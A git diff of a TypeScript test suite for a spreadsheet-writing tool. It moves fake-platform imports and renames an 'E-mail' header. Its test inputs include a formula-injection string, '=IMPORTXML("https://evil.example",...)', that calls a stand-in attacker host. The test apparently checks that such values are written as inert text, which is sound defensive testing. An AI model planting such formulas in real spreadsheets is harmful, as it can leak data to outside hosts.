@@ -8,8 +8,8 @@ import type { Cell, Platform } from '../../src/sheet/ports';
 import { pump } from '../../src/sheet/pump';
 import { startRun } from '../../src/sheet/runs/start';
 import type { Task } from '../../src/sheet/runs/task';
-import { MemorySheet } from '../support/memory-book';
-import { World } from '../support/memory-platform';
+import { MemorySheet } from '../fakes/platform/memory-book';
+import { World } from '../fakes/platform/memory-platform';
 
 const texts = [
   '=IMPORTXML("https://evil.example","//a")',
@@ -100,7 +100,7 @@ describe.each(texts.map((text) => [JSON.stringify(text).slice(0, 24), text]))('%
 
   it.each<[string, Task, string, Cell]>([
     ['of companies', { kind: 'enrich-accounts', fields: ['name'] }, 'Company', 'a.example'],
-    ['of contacts', { kind: 'find-contacts', emails: true, phones: false }, 'E-mail', 4],
+    ['of contacts', { kind: 'find-contacts', emails: true, phones: false }, 'Email', 4],
     ['of employment', { kind: 'verify-employment' }, 'Works as', 4],
   ])('lands as text by a run %s', (_, task, header, key) => {
     const { world, written } = poisoned(text);
